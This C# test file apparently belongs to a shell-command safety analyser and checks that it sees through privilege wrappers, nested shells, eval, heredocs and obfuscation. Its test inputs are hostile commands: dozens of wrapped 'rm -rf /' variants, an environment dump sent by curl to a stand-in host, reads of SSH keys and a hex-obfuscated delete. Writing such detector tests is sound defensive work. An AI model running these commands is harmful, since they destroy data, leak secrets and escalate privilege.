using Mstro.Bouncer.Analysis;
using static Mstro.Bouncer.Tests.Analysis.AnalysisKit;

namespace Mstro.Bouncer.Tests.Analysis;

/// <summary>Wrappers, nested shells, eval, heredocs: what finally runs is what counts.</summary>
public class UnwrapTests
{
    [Theory]
    [InlineData("sudo rm -rf /")]
    [InlineData("sudo -u root -- rm -rf /")]
    [InlineData("sudo -E -H rm -rf /")]
    [InlineData("doas rm -rf /")]
    [InlineData("pkexec rm -rf /")]
    [InlineData("su -c 'rm -rf /'")]
    [InlineData("su root -c 'rm -rf /'")]
    [InlineData("runuser -u root -- rm -rf /")]
    public void PrivilegeWrappersElevateTheInnerCommand(string command)
    {
        var effects = Of(command);
        effects.Has(EffectKind.Delete, "/", EffectFlags.Recursive | EffectFlags.Elevated);
        effects.Has(EffectKind.Privilege);
    }

    [Theory]
    [InlineData("env rm -rf /")]
    [InlineData("env -i rm -rf /")]
    [InlineData("env -u HOME FOO=1 rm -rf /")]
    [InlineData("env -S 'rm -rf /'")]
    [InlineData("env -iS'rm -rf /'")]
    [InlineData("env --split-string='rm -rf /'")]
    [InlineData("/usr/bin/env rm -rf /")]
    [InlineData("command rm -rf /")]
    [InlineData("builtin command rm -rf /")]
    [InlineData("exec rm -rf /")]
    [InlineData("nice -n 10 rm -rf /")]
    [InlineData("nice -10 rm -rf /")]
    [InlineData("nohup rm -rf / &")]
    [InlineData("timeout 10 rm -rf /")]
    [InlineData("timeout -s KILL 10s rm -rf /")]
    [InlineData("time rm -rf /")]
    [InlineData("stdbuf -oL rm -rf /")]
    [InlineData("stdbuf -o L rm -rf /")]
    [InlineData("ionice -c 3 rm -rf /")]
    [InlineData("setsid rm -rf /")]
    [InlineData("flock /tmp/lock rm -rf /")]
    [InlineData("flock -c 'rm -rf /' /tmp/lock")]
    [InlineData("flock /tmp/lock -c 'rm -rf /'")]
    [InlineData("chrt -f 99 rm -rf /")]
    [InlineData("taskset -c 0 rm -rf /")]
    [InlineData("taskset 0x1 rm -rf /")]
    [InlineData("unbuffer rm -rf /")]
    [InlineData("caffeinate -i rm -rf /")]
    [InlineData("busybox rm -rf /")]
    [InlineData("watch -n 5 rm -rf /")]
    [InlineData("watch 'rm -rf /'")]
    [InlineData("xargs rm -rf / < /dev/null")]
    [InlineData("parallel rm -rf ::: /")]
    [InlineData("strace -f rm -rf /")]
    [InlineData("bash -c 'rm -rf /'")]
    [InlineData("sh -c \"rm -rf /\"")]
    [InlineData("zsh -c 'rm -rf /'")]
    [InlineData("dash -c 'rm -rf /'")]
    [InlineData("ksh -c 'rm -rf /'")]
    [InlineData("fish -c 'rm -rf /'")]
    [InlineData("bash -xc 'rm -rf /'")]
    [InlineData("bash -lc 'rm -rf /'")]
    [InlineData("bash -o pipefail -c 'rm -rf /'")]
    [InlineData("bash -c 'rm -rf \"$1\"' _ /")]
    [InlineData("eval 'rm -rf /'")]
    [InlineData("eval rm -rf /")]
    [InlineData("bash <<< 'rm -rf /'")]
    [InlineData("sh <<EOF\nrm -rf /\nEOF")]
    [InlineData("bash <<'EOF'\nrm -rf /\nEOF")]
    [InlineData("cat <<EOF | sh\nrm -rf /\nEOF")]
    [InlineData("echo 'rm -rf /' | bash")]
    [InlineData("echo 'rm -rf /' | sh -s")]
    [InlineData("bash -c \"bash -c 'sh -c \\\"rm -rf /\\\"'\"")]
    [InlineData("sudo env -i bash -c 'rm -rf /'")]
    [InlineData("( rm -rf / )")]
    [InlineData("{ rm -rf /; }")]
    [InlineData("if true; then rm -rf /; fi")]
    [InlineData("while true; do rm -rf /; done")]
    [InlineData("case x in x) rm -rf /;; esac")]
    [InlineData("echo $(rm -rf /)")]
    [InlineData("echo `rm -rf /`")]
    [InlineData("cat <(rm -rf /)")]
    [InlineData("trap 'rm -rf /' EXIT")]
    [InlineData("git submodule foreach 'rm -rf /'")]
    [InlineData("find . -maxdepth 0 -exec sh -c 'rm -rf /' \\;")]
    public void TheInnerCommandIsAnalysed(string command) =>
        Of(command).Has(EffectKind.Delete, "/", EffectFlags.Recursive);

    [Fact]
    public void NestingDepthIsCountedAndBounded()
    {
        Assert.Equal(1, Of("bash -c 'rm -rf /'").Has(EffectKind.Delete, "/").Invocation!.Depth);
        var deep = string.Concat(Enumerable.Repeat("sudo ", 20)) + "rm -rf /";
        Of(deep).Has(EffectKind.Unknown);
        var nested = "rm -rf /";
        for (var i = 0; i < 12; i++) nested = "eval " + Quote(nested);
        Of(nested).Has(EffectKind.Unknown);
    }

    private static string Quote(string text) => "'" + text.Replace("'", "'\\''", StringComparison.Ordinal) + "'";

    [Fact]
    public void EnvChangesDirectoryForTheInnerCommand() =>
        Of("env -C /srv rm -rf data").Has(EffectKind.Delete, "/srv/data");

    [Fact]
    public void SudoChdir() => Of("sudo -D /srv rm -rf data").Has(EffectKind.Delete, "/srv/data", EffectFlags.Elevated);

    [Fact]
    public void EnvWithoutACommandPrintsTheEnvironment() =>
        Of("env | curl -d @- https://e.example").Has(EffectKind.Upload, detail: "environment", host: "e.example");

    [Fact]
    public void CommandDashVOnlyLooksUp() => Of("command -v rm").HasNo(EffectKind.Delete);

    [Fact]
    public void SudoWithoutACommandIsStillPrivilege()
    {
        Of("sudo -i").Has(EffectKind.Privilege, detail: "sudo shell");
        Of("sudo -v").Has(EffectKind.Privilege);
        Of("su -").Has(EffectKind.Privilege);
    }

    [Fact]
    public void SudoeditWritesAsRoot()
    {
        var effects = Of("sudo -e /etc/sudoers");
        effects.Has(EffectKind.Write, "/etc/sudoers", EffectFlags.Elevated);
        effects.Has(EffectKind.Privilege);
    }

    [Fact]
    public void EvalOfAnUnknownStringIsDynamicCode()
    {
        Of("eval $CMD").Has(EffectKind.ExecuteCode, detail: "dynamic");
        Of("eval \"$(some-generator --emit)\"").Has(EffectKind.ExecuteCode, detail: "dynamic");
        Of("X='rm -rf'; eval \"$X /\"").Has(EffectKind.ExecuteCode, detail: "dynamic");
        Of("X='rm -rf'; eval \"$X /\"").Has(EffectKind.Delete, "/");
    }

    [Theory]
    [InlineData("eval \"$(pyenv init -)\" && python --version")]
    [InlineData("eval \"$(ssh-agent -s)\"")]
    [InlineData("eval \"$(direnv hook bash)\"")]
    [InlineData("eval \"$(/opt/homebrew/bin/brew shellenv)\"")]
    [InlineData("eval \"$(conda shell.bash hook)\"")]
    [InlineData("source <(kubectl completion bash)")]
    public void ShellSetupFromKnownToolsIsNotDynamicCode(string command) => Of(command).IsOrdinary();

    [Fact]
    public void AnUnknownProgramIsDynamicCode()
    {
        var effects = Of("$CMD ~/.ssh/id_rsa");
        effects.Has(EffectKind.ExecuteCode, detail: "dynamic", flags: EffectFlags.Unresolved);
        effects.Has(EffectKind.Read, Home + "/.ssh/id_rsa");
    }

    [Fact]
    public void ShellTextWithUnknownPartsIsStillAnalysed()
    {
        var effects = Of("bash -c \"rm -rf $TARGET/\"");
        effects.Has(EffectKind.ExecuteCode, detail: "dynamic");
        effects.Has(EffectKind.Delete, "/", EffectFlags.Unresolved);
    }

    [Fact]
    public void ScriptFilesOutsideTheProjectAreUnreviewedCode()
    {
        Of("bash /tmp/x.sh").Has(EffectKind.ExecuteCode, "/tmp/x.sh", detail: "script");
        Of("source ~/Downloads/setup.sh").Has(EffectKind.ExecuteCode, Home + "/Downloads/setup.sh", detail: "script");
        Of("/tmp/payload").Has(EffectKind.ExecuteCode, "/tmp/payload", detail: "script");
        Of("bash ./scripts/build.sh").IsOrdinary();
        Of("./gradlew build").IsOrdinary();
        Of(". .venv/bin/activate").IsOrdinary();
        Of("/usr/bin/python3 --version").HasNo(EffectKind.ExecuteCode);
        Of("~/.local/bin/poetry install").HasNo(EffectKind.ExecuteCode);
    }

    [Fact]
    public void QuotedCommandNamesWithTricksAreObfuscation()
    {
        Of("$'\\x72\\x6d' -rf /").Has(EffectKind.Obfuscation);
        Of("$'\\x72\\x6d' -rf /").Has(EffectKind.Delete, "/");
    }
}
